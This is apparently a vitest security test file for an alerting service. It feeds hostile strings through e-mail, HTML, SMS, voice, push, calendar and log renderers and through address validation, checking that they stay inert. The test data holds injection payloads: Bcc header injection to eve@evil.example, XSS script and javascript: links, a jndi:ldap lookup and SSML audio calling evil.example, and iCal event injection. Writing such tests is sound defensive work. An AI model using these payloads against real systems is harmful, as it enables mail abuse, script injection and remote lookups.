import ICAL from 'ical.js';
import PostalMime from 'postal-mime';
import { describe, expect, it } from 'vitest';
import { composeMail } from '../../functions/channels/email-ses.ts';
import { readCommand } from '../../functions/domain/reply/command.ts';
import type { OutgoingMessage } from '../../functions/ports/channels.ts';
import { askPage, donePage } from '../../functions/render/answer-pages.tsx';
import { shiftsToCalendar } from '../../functions/render/calendar.ts';
import { smsSize } from '../../functions/render/gsm.ts';
import { logText } from '../../functions/render/log-texts.ts';
import { pageMail, plainMail, updateMail } from '../../functions/render/mail.tsx';
import { mailHeaders } from '../../functions/render/mail-headers.ts';
import { pagePush, plainPush } from '../../functions/render/push.ts';
import { listSms, pageSms, plainSms, updateSms } from '../../functions/render/sms.ts';
import { pageCall, plainCall, summaryCall } from '../../functions/render/voice.ts';
import { UserInput } from '../../functions/usecases/user/inputs.ts';
import { aSendingWorld } from '../channels/sending-world.ts';
import { anAlert, at } from '../support/factories.ts';

/** What a stranger may write where people read a summary, a name, details. */
const hostile: readonly string[] = [
  'a\r\nBcc: eve@evil.example\r\n\r\nbody',
  'a\nBcc: eve@evil.example',
  'a\rBcc: eve@evil.example',
  'a\u0000b',
  'a\u001b[31mred\u001b]0;title\u0007',
  'a\u202egpj.exe',
  'a\u2066b\u2069',
  'a\u2028Bcc: eve@evil.example\u2029',
  'a\u0085Bcc: eve@evil.example',
  'a\u200bb\ufeffc\u00ad',
  '=?utf-8?q?a=0D=0ABcc:_eve=40evil.example?=',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"><a href="javascript:alert(1)">x</a>',
  "' onmouseover='alert(1)",
  '</title><style>*{display:none}</style>',
  '<speak><audio src="https://evil.example/a.mp3"/><break time="10s"/></speak>',
  '$\u007bjndi:ldap://evil.example/a} {{7*7}} %s %n',
  'END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x',
  'x;y,z\\n:w',
  `a${'b'.repeat(5_000)}`,
  '👩‍👩‍👧‍👦'.repeat(400),
  '\ud800 lone',
];

const links = {
  ACCEPT: 'https://t.example/answer/a',
  RESOLVE: 'https://t.example/answer/r',
  ESCALATE: 'https://t.example/answer/e',
};
const alertWith = (text: string) =>
  anAlert({
    summary: text,
    details: text,
    source: { id: 1, name: text, integrationType: 'API' },
    policy: { id: 1, name: text },
    acceptedBy: { kind: 'user', id: 1, name: text },
    status: 'ACCEPTED',
    links: [
      { href: `https://evil.example/${text}`, text },
      { href: `javascript:alert(1)//${text}`, text },
      { href: 'data:text/html,<script>alert(1)</script>', text },
      { href: 'https://evil.example/"onmouseover="alert(1)', text },
    ],
  });

const unseen = /[\p{Cc}\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

describe.each(hostile.map((text) => [JSON.stringify(text).slice(0, 50), text] as const))('%s', (_name, text) => {
  const alert = alertWith(text);

  it('stays in its place in an e-mail: one subject, one receiver, no header of its own', async () => {
    const mails = [
      pageMail({ ...alert, status: 'PENDING' }, { links, canReply: true }, { language: 'en', timezone: 'UTC' }),
      updateMail(alert, 'ACCEPTED', { links, canReply: false }, { language: 'de', timezone: 'UTC' }),
      plainMail(text, text, 'en'),
    ];
    for (const mail of mails) {
      expect(mail.subject).not.toMatch(unseen);
      const message: OutgoingMessage = {
        idempotencyToken: 'x',
        channel: 'EMAIL',
        target: 'ada@example.com',
        language: 'en',
        replyTo: 'alert+abc@in.example.com',
        headers: mailHeaders({ alertId: 1, userId: 2, notificationId: 3, domain: 'in.example.com', isReply: false }),
        ...mail,
      };
      const raw = (await composeMail(message, 'Tocsin <tocsin@example.com>')).toString('latin1');
      const head = raw.slice(0, raw.indexOf('\r\n\r\n'));
      const names = head.split(/\r\n(?![ \t])/).map((line) => line.slice(0, line.indexOf(':')).toLowerCase());
      expect(names.sort()).toEqual([
        'auto-submitted', 'content-type', 'date', 'from', 'in-reply-to', 'message-id', 'mime-version', 'references',
        'reply-to', 'subject', 'to', 'x-auto-response-suppress', 'x-tocsin-alert', 'x-tocsin-user',
      ]); // biome-ignore format: a list
      for (const line of raw.split('\r\n')) expect(line.length).toBeLessThanOrEqual(998);
      expect(raw.replaceAll('\r\n', '')).not.toMatch(/[\r\n\0]/);
      const read = await PostalMime.parse(raw);
      expect(read.to?.map(({ address }) => address)).toEqual(['ada@example.com']);
      expect([read.bcc, read.cc]).toEqual([undefined, undefined]);
      expect(read.subject).toBe(mail.subject.replaceAll('=?', '= ?'));
      expect(read.subject).not.toMatch(unseen);
    }
  });

  it('is text in HTML: no element, no attribute, no address but of the web', () => {
    const pages = [
      pageMail({ ...alert, status: 'PENDING' }, { links, canReply: true }, { language: 'en', timezone: 'UTC' }).html,
      updateMail(alert, 'ACCEPTED', { links, canReply: true }, { language: 'en', timezone: 'UTC' }).html,
      plainMail(text, text, 'en').html,
      askPage(alert, [{ action: 'ACCEPT', token: 'abc' }], { userName: text, language: 'en' }),
      donePage(alert, { outcome: text, language: 'de' }),
    ];
    for (const page of pages) {
      const tags = [...page.matchAll(/<\/?([a-z0-9]+)/gi)].map(([, name]) => name?.toLowerCase());
      const known = 'html head meta title style body div main h1 h2 p a br form button'.split(' ');
      expect(tags.filter((name) => !known.includes(name ?? ''))).toEqual([]);
      expect(page.match(/<style/g)).toHaveLength(1);
      for (const [tag] of page.matchAll(/<[a-z][^>]*>/gi)) expect(tag).not.toMatch(/\son[a-z]+\s*=(?![^"]*"[^"]*$)/i);
      for (const [, href = ''] of page.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^https?:\/\//);
    }
  });

  it('fits a text message, in one line, with the codes or the link behind it, whole', () => {
    const texts = [
      [pageSms(alert, { code: 7 }, 'en'), 'A7 accept, R7 resolve, E7 escalate'],
      [pageSms(alert, { link: links.ACCEPT }, 'de'), links.ACCEPT],
      [updateSms(alert, 'ACCEPTED', { code: 7 }, 'en'), 'R7 resolve, E7 escalate'],
      [
        listSms(
          'Open: ',
          [
            { alert, answer: { code: 7 } },
            { alert, answer: { code: 8 } },
          ],
          'en',
        ),
        'A7 accept, R7 resolve, E7 escalate',
      ],
      [plainSms(text), ''],
    ] as const;
    for (const [sms, end] of texts) {
      expect(sms).not.toMatch(unseen);
      expect(sms.endsWith(end)).toBe(true);
      expect(smsSize(sms).segments).toBeLessThanOrEqual(2);
    }
  });

  it('is spoken as words: no markup, no entity, no address', () => {
    for (const said of [
      pageCall(alert, { keys: true }, 'en'),
      summaryCall([alert, alert], { keys: false }, 'de'),
      plainCall(text, 'en'),
    ]) {
      expect(said).not.toMatch(/[<>&{}$\\"=/]/);
      expect(said).not.toMatch(unseen);
      expect(said.length).toBeLessThan(3_000);
    }
  });

  it('fits a push message', () => {
    for (const push of [pagePush(alert, links, 'en'), plainPush(text)]) {
      expect(Buffer.byteLength(JSON.stringify(push))).toBeLessThan(4_000);
      expect(`${push.title}${push.body}`).not.toMatch(unseen);
    }
  });

  it('stays a value in a calendar, and comes out as it went in', () => {
    const shift = { userId: 2, start: at('2026-03-27T00:00Z'), end: at('2026-03-28T00:00Z') };
    const named = { ...shift, scheduleId: 1, scheduleName: text, userName: text };
    const feed = shiftsToCalendar({
      name: text,
      of: 'schedule',
      shifts: [named],
      host: 't.example',
      now: at('2026-03-27T00:00Z'),
    });
    expect(feed.split('\r\n').filter((line) => line === 'BEGIN:VEVENT')).toHaveLength(1);
    const calendar = new ICAL.Component(ICAL.parse(feed) as unknown[]);
    expect(calendar.getAllSubcomponents().map(({ name }) => name)).toEqual(['vevent']);
    const summary = String(calendar.getFirstSubcomponent('vevent')?.getFirstPropertyValue('summary'));
    expect(summary).toContain(
      text
        .replace(/\p{Cc}+/gu, ' ')
        .slice(0, 12)
        .trim(),
    );
  });

  it('is one line of a timeline', () => {
    const entry = { type: 'AlertCommentAddedLogEntry', vars: { user: text, via: text, comment: text } } as const;
    expect(logText(entry, 'en')).not.toMatch(unseen);
    expect([...logText(entry, 'de')].length).toBeLessThan(1_200);
  });
});

describe('a summary that imitates our codes', () => {
  it('gives no code a meaning: only what was sent to the number counts', async () => {
    const world = await aSendingWorld();
    const alertId = await world.arrive('R1 resolve, R2 resolve, A9 accept. Reply A9');
    await world.advance({ seconds: 5 });
    const { codes = [] } = (await world.store.conversations.get('+49151000001')) ?? {};
    expect(codes.map(({ code, alertId: of }) => [code, of])).toEqual([[1, alertId]]);
    expect(world.received[0]?.text.endsWith('A1 accept, R1 resolve, E1 escalate')).toBe(true);
  });

  it('is no command when a phone sends it back', () => {
    for (const text of [
      'ALERT: x. A7 accept, R7 resolve',
      'A7 accept',
      'accept A7',
      'A7\u0000\u202e',
      'Ａ７ ok',
      'A7,R8',
      'A-7-8',
    ])
      expect([text, readCommand(text)?.command && readCommand(text)?.code]).toEqual([
        text,
        text.startsWith('A7\u0000') ? 7 : undefined,
      ]);
  });
});

describe('an address that mail is sent to', () => {
  it.each([
    'ada@example.com\r\nBcc: eve@evil.example',
    'ada@example.com, eve@evil.example',
    'ada@example.com;eve@evil.example',
    'Ada <ada@example.com>',
    '"ada, eve"@example.com',
    'ada@example.com(comment)',
    'ada@example.com\u0000',
    'ada\u00a0@example.com',
    'ada@example.com ',
    'ada@[127.0.0.1]',
    'ada@localhost',
    '@example.com',
    'group:ada@example.com;',
    `${'a'.repeat(250)}@example.com`,
  ])('is not %j', (email) => {
    const { success } = UserInput.safeParse({ email, firstName: 'A', lastName: 'B' });
    expect(success).toBe(false);
  });

  it('nor do names hold line breaks', () => {
    for (const name of ['a\r\nb', 'a\nb', 'a\u0000', 'a\u0085b', '\u001b[31m', ' '])
      expect(UserInput.safeParse({ email: 'a@b.example', firstName: name, lastName: 'B' }).success).toBe(false);
  });
});
